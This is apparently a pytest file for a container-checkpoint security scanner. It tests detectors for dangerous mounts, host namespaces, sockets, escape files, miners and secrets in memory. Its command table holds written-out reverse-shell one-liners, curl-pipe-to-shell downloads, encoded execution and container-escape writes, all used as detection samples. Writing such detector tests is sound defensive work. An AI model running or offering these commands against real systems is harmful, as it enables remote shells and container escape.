"""Detectors of mounts, namespaces, sockets, commands and memory: each beside what is harmless."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from cryoscope.checkpoint.container import Container
from cryoscope.examine.findings.detectors.listening_port import declared
from cryoscope.examine.findings.detectors.service_account_token import subject
from cryoscope.examine.findings.known.commands import COMMANDS, hostile
from cryoscope.workflows.open import open_checkpoint
from tests.checkpoint.built_samples import PAGE, Fields, image, made
from tests.examine.findings.scenes import ANON, READ, WRITE, Fd, Mapped, Proc, _members, found, inet
from tests.examine.findings.written import SERVER, Written, checkpoint, levels

ANYWHERE = ("0.0.0.0", 0)
FAR = "93.184.215.14"


def bind(source: str, *options: str) -> Fields:
    mount = {"destination": "/inside", "type": "bind", "source": source, "options": ["rbind", *options]}
    return {"mounts": [mount]}


# --- mounts ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("detector", "source", "options", "severity"),
    [
        ("host-path", "/", (), "medium"),
        ("host-path", "/", ("ro",), "low"),
        ("host-path", "/etc", (), "medium"),
        ("host-path", "/var/lib/kubelet", (), "medium"),
        ("host-path", "/root/.ssh", (), "medium"),
        ("host-path", "/srv/../etc", (), "medium"),
        ("host-path", "/var/run", (), "medium"),
        ("host-path", "/srv/data", (), "info"),
        ("host-path", "/etc/localtime", (), "info"),
        ("host-path", "/var/lib/kubelet/pods/1-2/volumes/kubernetes.io~secret/s", (), None),
        ("host-path", "/var/lib/docker/volumes/v/_data", (), None),
        ("host-path", "/var/lib/containers/storage/volumes/v/_data", (), None),
        ("host-path", "/run/containers/storage/overlay-containers/1a/userdata/hosts", (), None),
        ("engine-socket", "/var/run/docker.sock", (), "high"),
        ("engine-socket", "/run/containerd/containerd.sock", ("ro",), "high"),
        ("engine-socket", "/run/mysqld/mysqld.sock", (), None),
        ("checkpoint-folder", "/var/lib/kubelet/checkpoints", (), "high"),
        ("checkpoint-folder", "/var/lib/kubelet/checkpoints-of-mine", (), None),
    ],
)
def test_a_mount(detector: str, source: str, options: tuple[str, ...], severity: str | None) -> None:
    assert levels(checkpoint(spec=bind(source, *options)), detector) == ([severity] if severity else [])


def test_mounts_that_every_container_has_say_nothing() -> None:
    mounts = [
        {"destination": "/proc", "type": "proc", "source": "proc", "options": ["nosuid"]},
        {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid"]},
    ]
    for detector in ("host-path", "engine-socket", "checkpoint-folder"):
        assert levels(checkpoint(spec={"mounts": mounts}), detector) == []


def test_a_manager_of_containers_may_have_the_socket() -> None:
    manager = Proc(1, ["traefik"], exe="/usr/bin/traefik")
    spec = bind("/var/run/docker.sock")
    assert levels(checkpoint(processes=(manager,), spec=spec), "engine-socket") == ["medium"]


def test_a_command_line_that_asks_the_engine() -> None:
    asks = Proc(7, ["curl", "--unix-socket", "/var/run/docker.sock", "http://x/info"], exe="/usr/bin/curl")
    assert levels(checkpoint(processes=(SERVER, asks)), "engine-socket") == ["high"]


def mounted(mountpoint: str, fstype: str = "cgroup", **fields: Any) -> Any:
    entry = {"fstype": 0, "mnt_id": 9, "root_dev": 1, "parent_mnt_id": 1, "flags": 0, "root": "/"}
    described = entry | {"mountpoint": mountpoint, "source": fstype, "options": "rdma", "fsname": fstype}
    texts = {name: value.encode() for name, value in (described | fields).items() if isinstance(value, str)}
    described |= fields | texts
    members = _members([SERVER], None, None, None)
    return made(members | {"mountpoints-1.img": image("MNTS", described)})


def test_control_groups_mounted_by_hand() -> None:
    assert levels(mounted("./tmp/cgrp"), "escape-file") == ["high"]
    assert levels(mounted("./sys/fs/cgroup/rdma"), "escape-file") == []
    assert levels(mounted("./tmp/x", fstype="tmpfs"), "escape-file") == []


def test_the_engines_socket_without_a_spec() -> None:
    external = {"ext_mount": True, "root": "/docker.sock"}
    assert levels(mounted("./run/docker.sock", "tmpfs", **external), "engine-socket") == ["high"]
    assert levels(mounted("./run/x", "tmpfs", ext_mount=True, root="/x"), "engine-socket") == []


# --- namespaces and rights ------------------------------------------------------------------
NAMESPACES = [{"type": kind} for kind in ("pid", "network", "ipc", "uts", "mount")]


def test_namespaces_of_the_host() -> None:
    def spec(spaces: list[Fields]) -> Fields:
        return {"linux": {"namespaces": spaces}}

    assert levels(checkpoint(spec=spec(NAMESPACES)), "host-namespaces") == []
    assert levels(checkpoint(spec=spec(NAMESPACES[1:])), "host-namespaces") == ["medium"]
    hosts = [{"type": "network", "path": "/proc/1/ns/net"}, NAMESPACES[0], *NAMESPACES[2:]]
    [finding] = found(checkpoint(spec=spec(hosts)), "host-namespaces")
    assert [evidence.text for evidence in finding.evidence] == ["net"]


@pytest.mark.parametrize(
    ("name", "shared"),
    [("containerd-looper.tar", ["net"]), ("docker-looper", ["net"]), ("crio-counter.tar", [])],
)
def test_namespaces_of_real_containers(name: str, shared: list[str], data: Path) -> None:
    """One in a pod on the host's network, one with Docker's host network, one in a pod of its own."""
    with open_checkpoint(str(data / name)) as real:
        findings = found(real, "host-namespaces")
    assert [evidence.text for finding in findings for evidence in finding.evidence] == shared


@pytest.mark.parametrize(
    ("names", "severity"),
    [
        ([f"CAP_{number}" for number in range(41)], "medium"),
        (["CAP_CHOWN", "CAP_SYS_ADMIN"], "low"),
        (["CAP_CHOWN", "CAP_NET_BIND_SERVICE", "CAP_MKNOD"], None),
    ],
)
def test_what_the_spec_gives(names: list[str], severity: str | None) -> None:
    spec = {"process": {"capabilities": {"bounding": names}}}
    assert levels(checkpoint(spec=spec), "privileged-container") == ([severity] if severity else [])


# --- sockets --------------------------------------------------------------------------------
def holds(*fds: Fd, argv: list[str] | None = None) -> Proc:
    return Proc(7, argv or ["agent"], exe="/usr/bin/agent", fds=dict(enumerate(fds, 3)))


def listens(port: int, address: str = "0.0.0.0") -> Fd:
    return inet(None, local=(address, port), state=10)


@pytest.mark.parametrize(
    ("fd", "ports", "severity"),
    [
        (listens(8080), {}, "info"),
        (listens(8080), {"80": ["tcp"]}, "low"),
        (listens(80), {"80": ["tcp"]}, None),
        (listens(31337), {}, "medium"),
        (listens(8080, "127.0.0.1"), {}, None),
    ],
)
def test_a_port(fd: Fd, ports: dict[str, list[str]], severity: str | None) -> None:
    one = checkpoint(processes=(SERVER, holds(fd)), exposedPorts=ports)
    assert levels(one, "listening-port") == ([severity] if severity else [])


def test_ports_that_are_declared() -> None:
    ports = json.dumps([{"containerPort": 53, "protocol": "UDP"}, {"containerPort": "x"}, 7])
    told = {"io.kubernetes.container.ports": ports}
    one = Container(engine="cri-o", engine_evidence="", annotations=told)
    assert declared(one) == {53}
    mapped = {"newPortMappings": [{"container_port": 80, "range": 3}, {"container_port": "x"}]}
    assert declared(Container(engine="podman", engine_evidence="", facts=mapped)) == {80, 81, 82}
    odd = {"exposedPorts": 7, "newPortMappings": {}, "Annotations": [1]}
    assert declared(Container(engine="podman", engine_evidence="", facts=odd)) == set()


@pytest.mark.parametrize(
    ("fds", "severity"),
    [
        ((inet((FAR, 443)),), "low"),
        ((inet((FAR, 3333)),), "medium"),
        ((inet(("10.0.0.9", 4444)),), "medium"),
        ((inet(("10.0.0.9", 5432)),), None),
        ((inet(("127.0.0.1", 4444)),), None),
        ((listens(80), inet((FAR, 51000), local=("10.88.0.2", 80))), None),  # a visitor's
    ],
)
def test_a_connection(fds: tuple[Fd, ...], severity: str | None) -> None:
    one = checkpoint(processes=(SERVER, holds(*fds)))
    assert levels(one, "outbound-connection") == ([severity] if severity else [])


def test_raw_sockets() -> None:
    raw = inet(None)
    raw.entry |= {"type": 3, "proto": 1, "state": 7}
    assert levels(checkpoint(processes=(SERVER, holds(raw))), "raw-socket") == ["medium"]
    assert levels(checkpoint(processes=(SERVER, holds(inet((FAR, 443))))), "raw-socket") == []


def test_the_metadata_service() -> None:
    service = ("169.254.169.254", 80)
    assert levels(checkpoint(processes=(SERVER, holds(inet(service)))), "metadata-service") == ["low"]
    asks = Proc(7, ["curl", "http://169.254.169.254/latest/"], exe="/usr/bin/curl")
    assert levels(checkpoint(processes=(SERVER, asks)), "metadata-service") == ["medium"]
    assert levels(checkpoint(processes=(SERVER, holds(inet((FAR, 80))))), "metadata-service") == []


# --- descriptors ----------------------------------------------------------------------------
def opened(path: str, access: int = 0, mode: int | None = None) -> Fd:
    fields: Fields = {"flags": access, "pos": 0, "name": path.encode()} | ({"mode": mode} if mode else {})
    return Fd("REG", fields, ("reg", path))


@pytest.mark.parametrize(
    ("detector", "fd", "severity"),
    [
        ("kernel-access", opened("/dev/mem", 2), "high"),
        ("kernel-access", opened("/dev/sda1"), "high"),
        ("kernel-access", opened("/opt/device", 0, 0o60600), "high"),
        ("kernel-access", opened("/dev/null", 2), None),
        ("process-memory", opened("/proc/1/mem", 2), "medium"),
        ("process-memory", opened("/proc/7/mem", 2), None),
        ("process-memory", opened("/proc/1/status"), None),
        ("escape-file", opened("/proc/sys/kernel/core_pattern", 1), "high"),
        ("escape-file", opened("/sys/fs/cgroup/rdma/release_agent", 2), "high"),
        ("escape-file", opened("/proc/sys/kernel/core_pattern"), None),
        ("runtime-overwrite", opened("/usr/sbin/runc", 1), "high"),
        ("runtime-overwrite", opened("/usr/sbin/runc"), None),
    ],
)
def test_an_open_file(detector: str, fd: Fd, severity: str | None) -> None:
    one = checkpoint(processes=(SERVER, holds(fd)))
    assert levels(one, detector) == ([severity] if severity else [])


def test_a_disk_that_the_spec_gives() -> None:
    spec = {"linux": {"devices": [{"path": "/dev/sda1", "type": "b"}]}}
    one = checkpoint(processes=(SERVER, holds(opened("/dev/sda1"))), spec=spec)
    assert levels(one, "kernel-access") == ["low"]


@pytest.mark.parametrize("cwd", ["/proc/self/fd/8/../../../..", "/proc/self/fd/7"])
def test_a_working_directory_that_leads_out(cwd: str) -> None:
    assert levels(checkpoint(spec={"process": {"cwd": cwd}}), "leaked-folder") == ["high"]
    assert levels(checkpoint(spec={"process": {"cwd": "/srv"}}), "leaked-folder") == []


# --- commands -------------------------------------------------------------------------------
COMMAND_LINES = {
    "dev-tcp-shell": "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
    "dev-tcp": "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
    "netcat-shell": "nc 192.0.2.7 4444 -e /bin/sh",
    "fifo-shell": "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f",
    "socat-shell": "socat tcp:192.0.2.7:4444 exec:/bin/bash,pty,stderr",
    "script-shell": "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",4444));"
    "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
    "download-run": "curl -fsSL http://192.0.2.7/x.sh | bash",
    "download-substituted": "sh -c $(curl -fsSL http://192.0.2.7/x.sh)",
    "download-temporary": "wget -O /tmp/x http://192.0.2.7/x; cp /tmp/x /tmp/y; chmod +x /tmp/y",
    "encoded-run": "echo aWQ= | base64 -d | sh",
    "history-off": "unset HISTFILE; ls",
}  # fmt: skip
HARMLESS = [
    "curl -fsS http://localhost:8080/health | grep ok",
    "nc -z db 5432",
    "sync -e shell",
    "base64 -d config.b64",
    "python3 -c 'import socket; print(socket.gethostname())'",
    "socat tcp-listen:80 tcp:web:80",
    "wget -q -O /tmp/ready http://localhost/ready",
    "cat /dev/tcp",
    "history 20",
]


def test_every_command_of_the_table_has_an_example() -> None:
    assert set(COMMAND_LINES) == {command.name for command in COMMANDS}


@pytest.mark.parametrize("name", COMMAND_LINES)
def test_a_command_is_known(name: str) -> None:
    assert name in [command.name for command, _ in hostile(COMMAND_LINES[name].encode())]


@pytest.mark.parametrize("line", HARMLESS)
def test_a_harmless_command(line: str) -> None:
    assert list(hostile(line.encode())) == []
    shell = Proc(7, ["sh", "-c", line], exe="/bin/sh")
    assert levels(checkpoint(processes=(SERVER, shell)), "hostile-command") == []


@pytest.mark.parametrize("name", COMMAND_LINES)
def test_a_command_that_runs_and_one_in_memory(name: str) -> None:
    line = COMMAND_LINES[name]
    shell = Proc(7, ["sh", "-c", line], exe="/bin/sh")
    expected = next(command.severity for command, _ in hostile(f"sh -c {line}".encode()))
    assert expected in levels(checkpoint(processes=(SERVER, shell)), "hostile-command")
    kept = levels(checkpoint(processes=(remembers(line),)), "hostile-command")
    assert kept[0] == ("medium" if expected == "high" else "low")


def test_what_the_owner_wrote_into_the_spec_is_milder() -> None:
    argv = ["sh", "-c", COMMAND_LINES["encoded-run"]]
    one = checkpoint(processes=(Proc(1, argv, exe="/bin/sh"),), spec={"process": {"args": argv}})
    assert "high" not in levels(one, "hostile-command")


def remembers(text: str, **fields: Any) -> Proc:
    """A process with a text in its heap."""
    heap = Mapped(ANON, PAGE, READ | WRITE, pages={0: b"....\0" + text.encode() + b"\0"})
    return Proc(**({"pid": 1, "argv": ["server"], "mapped": [heap]} | fields))


def test_evidence_in_memory_says_where() -> None:
    one = checkpoint(processes=(remembers(COMMAND_LINES["download-run"]),))
    [finding] = found(one, "hostile-command")
    [evidence] = finding.evidence
    assert (evidence.pid, evidence.address) == (1, ANON + 5)
    assert evidence.vma is not None
    assert evidence.text == COMMAND_LINES["download-run"]


@pytest.mark.parametrize(
    ("argv", "exe", "detector", "severity"),
    [
        (["xmrig", "-o", "192.0.2.7:3333"], "/tmp/xmrig", "miner", "high"),
        (["kworker", "-o", "stratum+tcp://pool.invalid:3333"], "/usr/bin/x", "miner", "high"),
        (["server", "-o", "out:1"], "/usr/bin/server", "miner", None),
        (["./linpeas.sh"], "/bin/sh", "attacker-tool", "high"),
        (["sh", "/tmp/linpeas.sh"], "/bin/sh", "attacker-tool", "high"),
        (["nmap", "-sS", "10.0.0.0/8"], "/usr/bin/nmap", "attacker-tool", "medium"),
        (["sleep", "9"], "/bin/sleep", "attacker-tool", None),
        (["criu", "dump", "-t", "17"], "/usr/sbin/criu", "criu-inside", "medium"),
        (["criu", "check"], "/usr/sbin/criu", "criu-inside", None),
        (["insmod", "/tmp/x.ko"], "/sbin/insmod", "kernel-access", "high"),
        (["insmod", "/lib/modules/x.ko"], "/sbin/insmod", "kernel-access", "medium"),
        (["sh", "-c", "echo '|/x' > /proc/sys/kernel/core_pattern"], "/bin/sh", "escape-file", "high"),
        (["sh", "-c", "echo core > /proc/sys/kernel/core_pattern"], "/bin/sh", "escape-file", "medium"),
        (["sh", "-c", "echo /x > /tmp/c/release_agent"], "/bin/sh", "escape-file", "high"),
        (["cat", "/proc/sys/kernel/core_pattern"], "/bin/cat", "escape-file", None),
    ],
)
def test_a_process(argv: list[str], exe: str, detector: str, severity: str | None) -> None:
    one = checkpoint(processes=(SERVER, Proc(7, argv, exe=exe)))
    assert levels(one, detector)[:1] == ([severity] if severity else [])


@pytest.mark.parametrize(
    ("text", "detector", "severity"),
    [
        ("stratum+tcp://pool.invalid:3333", "miner", "medium"),
        ("login to gulf.moneroocean.stream:10128 now", "miner", "medium"),
        ("moneroocean.stream is blocked", "miner", None),
        ("criu dump -t 17 -D /tmp/i", "criu-inside", "medium"),
        ("criu\0restore\0-t\x0017", "criu-inside", "medium"),
        ("criu restore is a command", "criu-inside", None),
        ("echo /c > /tmp/cgrp/release_agent", "escape-file", "medium"),
        ("release_agent of the root", "escape-file", None),
    ],
)
def test_words_in_memory(text: str, detector: str, severity: str | None) -> None:
    assert levels(checkpoint(processes=(remembers(text),)), detector) == ([severity] if severity else [])


# --- secrets --------------------------------------------------------------------------------
def token(**claims: Any) -> str:
    def part(value: Any) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    head = part({"alg": "RS256", "kid": "made-up-for-a-test"}).replace("=", "")
    return ".".join((head, part(claims), "c2lnbmF0dXJl" * 6))


SUBJECT = "system:serviceaccount:shop:cart"
TOKEN = token(sub=SUBJECT, exp=1_800_000_000).replace("eyJhbGciOiAi", "eyJhbGciOiJS")


@pytest.mark.parametrize(("comm", "severity"), [("operator", "info"), ("bash", "medium")])
def test_a_token_in_memory_is_told_but_not_shown(comm: str, severity: str) -> None:
    one = checkpoint(processes=(remembers(TOKEN, comm=comm),))
    [finding] = found(one, "service-account-token")
    assert finding.severity == severity
    assert finding.evidence[0].text == "shop/cart, until 1800000000"
    assert TOKEN not in str(finding)


def test_a_token_that_was_copied_into_a_file() -> None:
    assert levels(checkpoint(Written("/tmp/t", TOKEN.encode())), "service-account-token") == ["medium"]
    other = token(sub="somebody").replace("eyJhbGciOiAi", "eyJhbGciOiJS")
    assert levels(checkpoint(Written("/tmp/t", other.encode())), "service-account-token") == []


@pytest.mark.parametrize("text", ["", "a.b.c", "a.!.c", TOKEN[:60], "x." + "W10" + ".x", "x." + "e30" + ".x"])
def test_what_is_no_token(text: str) -> None:
    assert subject(text) is None


def test_secrets_in_an_environment() -> None:
    told = Proc(1, ["server"], env={"DB_PASSWORD": "k3Yx-92b-Qr7-fw1", "HOME": "/root"})
    [finding] = found(checkpoint(processes=(told,)), "secret-environment")
    assert [evidence.text for evidence in finding.evidence] == ["DB_PASSWORD=…"]
    assert "k3Yx" not in str(finding)
    assert found(checkpoint(processes=(SERVER,)), "secret-environment") == []


# --- deleted and open -----------------------------------------------------------------------
def held(data: bytes) -> Any:
    members = _members([Proc(1, ["server"], fds={7: opened("/tmp/dropper")})], None, None, None)
    head = {"uid": 0, "gid": 0, "mode": 0o100755, "size": len(data)}
    ghost = image("GHOST_FILE", head)
    remap = image("REMAP_FPATH", {"orig_id": 2, "remap_id": 1, "remap_type": 1})
    folders = image("FS", {"cwd_id": 1, "root_id": 1})
    return made(members | {"ghost-file-1.img": ghost + data, "remap-fpath.img": remap, "fs-1.img": folders})


def test_a_program_that_is_deleted_and_open() -> None:
    [finding] = found(held(b"\x7fELF" + bytes(100)), "held-executable")
    [evidence] = finding.evidence
    assert (finding.severity, evidence.path, evidence.fd) == ("medium", "/tmp/dropper", 7)
    assert levels(held(b"data" * 20), "held-executable") == []
